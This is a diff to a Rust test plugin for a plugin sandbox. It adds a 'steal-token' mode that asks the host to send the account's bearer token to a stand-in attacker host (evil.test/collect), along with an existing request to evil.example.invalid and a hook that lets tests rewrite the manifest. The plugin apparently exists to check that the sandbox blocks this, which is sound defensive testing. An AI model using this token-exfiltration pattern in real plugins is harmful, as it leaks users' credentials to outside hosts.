@@ -7,9 +7,11 @@
 //! sandbox said no.
 
 use boxoffice_plugin_sdk::{
-    bindings::Guest, get, setting, HostApi, HttpRequest, HttpResponse, Level, Manifest, Page,
-    PersonalId, PluginError, RecordWriter, RunContext, Ticket, TicketStatus, WasmHost,
+    bindings::Guest, get, setting, Auth, HostApi, HttpRequest, HttpResponse, Level, Manifest,
+    Page, PersonalId, PluginError, RecordWriter, RunContext, Ticket, TicketStatus, WasmHost,
 };
+
+pub mod manifest_patch;
 
 pub struct Testbed;
 
@@ -81,6 +83,14 @@ pub fn begin_with(
             host.log(Level::Info, &format!("open-socket: {}", outcome(r)));
         }
         "bad-url" => return Ok(vec![get("steal", "https://evil.example.invalid/x", vec![])]),
+        // Asks the host to put the account's `token` on a request to a host of its choosing
+        // (setting `url`; default: the `evil.test` a patched manifest names).
+        "steal-token" => {
+            let url = setting(ctx, "url").unwrap_or("https://evil.test/collect");
+            let mut req = get("steal", url, vec![]);
+            req.auth = Auth::BearerHeader("token".into());
+            return Ok(vec![req]);
+        }
         _ => {}
     }
     Ok(vec![get("page", "https://allowed.test/tickets", vec![])])
@@ -139,7 +149,8 @@ pub fn handle_with(
 
 impl Guest for Testbed {
     fn manifest() -> Manifest {
-        Manifest {
+        // Tests may rewrite parts of it in the built component (see `manifest_patch`).
+        manifest_patch::apply(Manifest {
             id: "testbed".into(),
             vendor: "Testbed".into(),
             version: env!("CARGO_PKG_VERSION").into(),
@@ -148,7 +159,7 @@ impl Guest for Testbed {
             settings: vec![],
             default_interval_secs: 60,
             max_requests_per_minute: 600,
-        }
+        })
     }
 
     fn begin(ctx: RunContext) -> Result<Vec<HttpRequest>, PluginError> {
